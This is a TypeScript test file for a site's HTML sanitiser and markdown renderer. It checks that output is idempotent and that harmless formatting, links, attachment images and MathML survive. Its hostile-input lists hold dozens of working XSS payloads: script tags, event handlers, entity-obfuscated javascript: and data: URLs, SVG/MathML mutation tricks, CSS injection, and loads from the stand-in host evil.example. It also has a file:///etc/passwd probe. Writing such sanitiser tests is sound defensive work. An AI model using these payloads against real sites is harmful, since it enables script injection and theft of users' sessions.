// Hostile payloads against both walls: the markdown renderer (raw HTML shown as text, URLs checked)
// and the allow-list sanitiser on its own (as if the renderer had let something through). None may
// leave a script, an event handler, a javascript:/data:/vbscript: URL, an SVG or a style trick.
import { describe, expect, test } from "bun:test";
import { renderMarkdown } from "./markdown.ts";
import { sanitizeHtml } from "./sanitize.ts";

const IMG = "/uploads/article/2026/01/0123456789abcdef.png";

/** Markup the page would execute or load: the things that must never come out. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const tags = [...html.matchAll(/<([a-z][a-z0-9-]*)\b([^>]*)>/gi)];
  for (const [, name, attrs] of tags) {
    const n = name!.toLowerCase();
    if (/^(script|style|iframe|object|embed|svg|link|meta|base|form|frame|frameset|template|noscript|xmp|textarea|button|select|video|audio|applet|maction)$/.test(n)) found.push(`<${n}>`);
    for (const [, key, value] of attrs!.matchAll(/([^\s=/"']+)\s*=\s*"([^"]*)"/g)) {
      const k = key!.toLowerCase();
      if (k.startsWith("on") || k === "formaction" || k === "srcdoc" || k === "xlink:href") found.push(`${n}[${k}]`);
      const v = value!.replace(/&#x?[0-9a-f]+;?|&[a-z]+;/gi, "").replace(/[\s\u0000-\u001f]/g, "").toLowerCase();
      if ((k === "href" || k === "src" || k === "action") && /^(javascript|data|vbscript|file):/.test(v)) found.push(`${n}[${k}=${v.slice(0, 20)}]`);
      if (k === "style" && /url|expression|position|@import|behavior|javascript/i.test(value!)) found.push(`${n}[style]`);
      if (k === "src" && n === "img" && value !== IMG) found.push(`img[src=${value}]`);
    }
  }
  return found;
}

const HOSTILE: string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script/xss src=x></script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" ONERROR="alert(1)">',
  "<img/src=x/onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  `<img src="${IMG}" onload="alert(1)">`,
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14;javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javas&Tab;cript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="\\\\evil.example/">x</a>',
  '<a href="x" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<svg onload=alert(1)><circle r="10"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><p><img src=x onerror=alert(1)></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><maction actiontype="statusline#http://evil.example">x</maction></math>',
  '<style>body{background:url(//evil.example/x)}</style>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(//evil.example/x)">x</div>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<mi style="background:url(javascript:alert(1));position:fixed">x</mi>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<input type="image" src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<base href="//evil.example/">',
  '<!--<img src=x onerror=alert(1)>-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="x" title="a"onmouseover="alert(1)">x</a>',
  '<a title=\'x\' href=\'javascript:alert(1)\'>x</a>',
  '<img src=x onerror="alert(1)"',
  '<img src="x" alt="<script>alert(1)</script>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<h2 id="location">x</h2><h2 id="h-ok" name="cookie">y</h2>',
  '<p class="x" data-x="y" aria-label="z" tabindex="0">ok</p>',
  "<plaintext><img src=x onerror=alert(1)>",
  '<a href="https://ok.example/">ok</a>',
  '<svg><script>alert(1)</script><svg><script xlink:href="data:,alert(1)"></script></svg></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)" href="javascript:alert(1)">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math><mtext><iframe src="javascript:alert(1)"></iframe></mtext></math>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="javascript&#58alert(1)">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="/\t/evil.example/">x</a>',
  "<img src=x onerror=alert(1)//>",
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  `<img src="${IMG}?x" onerror=alert(1)>`,
  `<img srcset="javascript:alert(1) 1x" src="${IMG}">`,
  '<span style="background:url(javascript:alert(1))">x</span>',
  '<mi style="background:url(javascript:alert(1))">x</mi>',
  '<mi style="color:expression(alert(1))">x</mi>',
  '<mi style="color:red;background-image:url(&quot;javascript:alert(1)&quot;)">x</mi>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<form><input name="x" formaction="javascript:alert(1)"><button>提交</button></form>',
  '<form id="test"></form><button form="test" formaction="javascript:alert(1)">x</button>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">',
  '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<a href="https://ok.example/" target="_self" rel="opener" onclick="alert(1)">外</a>',
];

describe("sanitizeHtml on hostile markup", () => {
  for (const payload of HOSTILE) {
    test(payload.slice(0, 80), () => {
      const out = sanitizeHtml(payload);
      expect({ payload, found: dangers(out) }).toEqual({ payload, found: [] });
      // Idempotent: what comes out passes unchanged, so nothing can be smuggled by a second round.
      expect(sanitizeHtml(out)).toBe(out);
    });
  }

  test("what may stay, stays: formatting, links (others' with nofollow), site images, temml MathML", () => {
    expect(sanitizeHtml('<p><strong>粗</strong> <em>斜</em> <del>删</del> <code>x</code></p>')).toBe('<p><strong>粗</strong> <em>斜</em> <del>删</del> <code>x</code></p>');
    expect(sanitizeHtml('<a href="https://ok.example/a?b=1&amp;c=2" onclick="x">外</a>')).toBe('<a href="https://ok.example/a?b=1&amp;c=2" target="_blank" rel="nofollow noopener noreferrer">外</a>');
    expect(sanitizeHtml('<a href="mailto:a@b.example" target="_top">信</a>')).toBe('<a href="mailto:a@b.example" rel="nofollow noopener">信</a>');
    expect(sanitizeHtml('<a href="/category/3" target="_top" rel="opener">站内</a>')).toBe('<a href="/category/3">站内</a>');
    expect(sanitizeHtml('<a class="heading-anchor evil" href="#h-1">#</a>')).toBe('<a class="heading-anchor" href="#h-1">#</a>');
    expect(sanitizeHtml(`<img src="${IMG}" alt="图" width="20" onerror="x">`)).toBe(`<img src="${IMG}" alt="图" width="20" loading="lazy" />`);
    expect(sanitizeHtml('<img src="https://evil.example/t.png" alt="外图">')).toBe("<span>外图</span>");
    expect(sanitizeHtml('<math display="block"><mi style="color:#ff0000;position:fixed">x</mi><mn class="tml-sml-pad">2</mn></math>'))
      .toBe('<math display="block"><mi style="color:#ff0000">x</mi><mn class="tml-sml-pad">2</mn></math>');
    expect(sanitizeHtml('<h2 id="h-简介">简介</h2>')).toBe('<h2 id="h-简介">简介</h2>');
    expect(sanitizeHtml('<ul><li><input type="checkbox" checked disabled> 完成</li></ul>')).toBe('<ul><li><input type="checkbox" checked disabled /> 完成</li></ul>');
    expect(sanitizeHtml('<pre><code class="language-js"><span class="hl-k">const</span></code></pre>')).toBe('<pre><code class="language-js"><span class="hl-k">const</span></code></pre>');
    expect(sanitizeHtml('<div class="md-table modal"><table><tr><th align="center">a</th><td align="javascript">b</td></tr></table></div>'))
      .toBe('<div class="md-table"><table><tr><th align="center">a</th><td>b</td></tr></table></div>');
  });

  test("images show only when they are the site's article attachments", () => {
    const known = new Set([IMG]);
    expect(sanitizeHtml(`<img src="${IMG}" alt="图">`, known)).toBe(`<img src="${IMG}" alt="图" loading="lazy" />`);
    expect(sanitizeHtml('<img src="/uploads/article/2026/01/ffffffffffffffff.png" alt="未登记">', known)).toBe("<span>未登记</span>");
    expect(sanitizeHtml('<img src="/uploads/avatar/1.png" alt="头像">')).toBe("<span>头像</span>");
    expect(sanitizeHtml('<img src="/uploads/article/../config.png" alt="穿越">')).toBe("<span>穿越</span>");
    // What follows a refused image keeps its text and its own end tags.
    expect(sanitizeHtml('<p><span class="math">m</span><img src="x" alt="外">后文<span class="math">n</span></p><p>下一段</p>'))
      .toBe('<p><span class="math">m</span><span>外</span>后文<span class="math">n</span></p><p>下一段</p>');
    expect(sanitizeHtml('<p><input type="text" value="x">后文<span class="math">n</span></p>')).toBe('<p><span></span>后文<span class="math">n</span></p>');
  });

  test("unknown tags go, their text stays; unclosed elements are closed; stray closers vanish", () => {
    expect(sanitizeHtml("<font color=red>红</font><center>中</center>")).toBe("红中");
    expect(sanitizeHtml("<p><strong>未闭合")).toBe("<p><strong>未闭合</strong></p>");
    // A stray </p> opens and closes an empty paragraph, as it does in browsers.
    expect(sanitizeHtml("</div></p>文字<p>段</p></strong>")).toBe("<p></p>文字<p>段</p>");
    expect(sanitizeHtml("1 < 2 && 3 > 2")).toBe("1 &lt; 2 &amp;&amp; 3 &gt; 2");
    expect(sanitizeHtml('<a href="javascript:alert(1)">链接文字</a>')).toBe("链接文字");
  });

  test("URLs: http(s), mailto and site-relative only, however the scheme is spelled", () => {
    const href = (url: string) => /<a href="([^"]*)"/.exec(sanitizeHtml(`<a href="${url}">x</a>`))?.[1] ?? null;
    for (const bad of ["javascript:x", " javascript:x", "java\nscript:x", "&#x6a;avascript:x", "jav&#97;script:x", "data:image/png;base64,x", "//x.example", "\\\\x", "/\\x.example", "java&NewLine;script:x", "vbscript:x", "file:///etc/passwd"]) {
      expect({ bad, ok: href(bad) }).toEqual({ bad, ok: null });
    }
    expect(href("https://a.example/b")).toBe("https://a.example/b");
    expect(href("mailto:a@b.example")).toBe("mailto:a@b.example");
    expect(href("/article/x#h-1")).toBe("/article/x#h-1");
    expect(href("#h-1")).toBe("#h-1");
    expect(sanitizeHtml('<mi style="color:#f00; background:url(x); padding:3pt; border:1px solid; position:fixed; width:expression(alert(1))">x</mi>'))
      .toBe('<mi style="color:#f00;padding:3pt;border:1px solid">x</mi>');
  });
});

describe("renderMarkdown with hostile markdown", () => {
  const MD: string[] = [
    "[点我](javascript:alert(1))",
    "[点我](JAVASCRIPT:alert(1))",
    "[点我](&#106;avascript:alert(1))",
    "[点我](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "![图](javascript:alert(1))",
    "![图](https://evil.example/track.png)",
    "![图](//evil.example/track.png)",
    `![图](${IMG} "t\\" onerror=\\"alert(1)")`,
    "![x](/uploads/article/../../etc/passwd.png)",
    "<div onclick=alert(1)>块</div>",
    "行内 <img src=x onerror=alert(1)> 图",
    "<svg onload=alert(1)></svg>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "# 标题 <script>alert(1)</script>",
    "[链接](https://ok.example \"标题\\\" onmouseover=\\\"alert(1)\")",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\htmlData{foo=bar}{x}$$",
    "$\\url{javascript:alert(1)}$",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[引用链接][x]",
  ];
  for (const md of MD) {
    test(md.slice(0, 60).replace(/\n/g, "⏎"), () => {
      const { html } = renderMarkdown(md, new Set([IMG]));
      expect({ md, found: dangers(html) }).toEqual({ md, found: [] });
    });
  }

  test("the same markdown renders the intended things", () => {
    const { html, toc } = renderMarkdown(`# 一、简介\n\n正文 [外链](https://ok.example) [站内](/category)\n\n## 公式\n\n$E=mc^2$\n\n$$\\frac{a}{b}$$\n\n![示意图](${IMG})\n\n\`\`\`js\nconst a = 1; // 注释\n\`\`\``, new Set([IMG]));
    expect(html).toContain('<h2 id="h-一-简介">一、简介<a class="heading-anchor" href="#h-一-简介" title="本节链接">#</a></h2>');
    expect(html).toContain('<a href="https://ok.example" target="_blank" rel="nofollow noopener noreferrer">外链</a>');
    expect(html).toContain('<a href="/category">站内</a>');
    expect(html).toMatch(/<span class="math"><math><mrow><mi>E<\/mi>/);
    expect(html).toContain('<math display="block" class="tml-display"><mfrac>');
    expect(html).toContain(`<img src="${IMG}" alt="示意图" loading="lazy" />`);
    expect(html).toContain('<code class="language-js"><span class="hl-k">const</span> a = <span class="hl-n">1</span>; <span class="hl-c">// 注释</span>');
    expect(toc).toEqual([{ level: 1, id: "h-一-简介", text: "一、简介" }, { level: 2, id: "h-公式", text: "公式" }]);
  });

  test("an image path that is not a known attachment shows its alt text only", () => {
    expect(renderMarkdown(`![未登记](${IMG})`).html).toBe("<p><span>未登记</span></p>\n");
  });

  test("a formula temml refuses stays visible as its source, escaped", () => {
    const { html } = renderMarkdown("$\\undefinedmacro<b>$");
    expect(html).toContain('<span class="math-tex">$\\undefinedmacro&lt;b&gt;$</span>');
  });
});
